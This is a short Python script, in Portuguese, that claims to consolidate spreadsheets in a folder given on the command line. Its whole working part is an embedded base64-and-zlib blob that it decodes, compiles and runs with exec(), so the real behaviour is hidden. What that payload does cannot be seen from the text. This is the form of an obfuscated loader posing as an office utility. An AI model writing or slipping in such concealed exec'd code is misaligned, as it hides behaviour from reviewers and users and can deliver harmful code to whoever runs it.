"""Rotina de consolidação (versão compacta do antigo setor)."""
import base64
import sys
import zlib
from pathlib import Path

ROTINA = (
    "eNoljUEOgyAURPecYsIKWiV115h4luZXQEkUKHzb6xfjbGfevLDnVBhz/QpOTBsmPIRPBVQ+CBG1"
    "tc6qTJXJLFt6K3kzbS21HgVafoFXpOyiakQHF+dkQ1wmebDvn1KDKvw1PXNJ7hPqsasBp+l1etql"
    "KY6sK8prjR6DyCVEVnILcaU6yu5itfgD4303Aw=="
)


def montar():
    bruto = zlib.decompress(base64.b64decode(ROTINA))
    return compile(bruto, "rotina", "exec")


def main():
    if len(sys.argv) < 2:
        print("Informe a pasta com as planilhas.")
        return
    contexto = {"pasta": Path(sys.argv[1]), "__name__": "rotina"}
    try:
        exec(montar(), contexto)
    except Exception as e:
        print("A rotina parou:", e)
        return
    print("Consolidação terminada.")


if __name__ == "__main__":
    main()
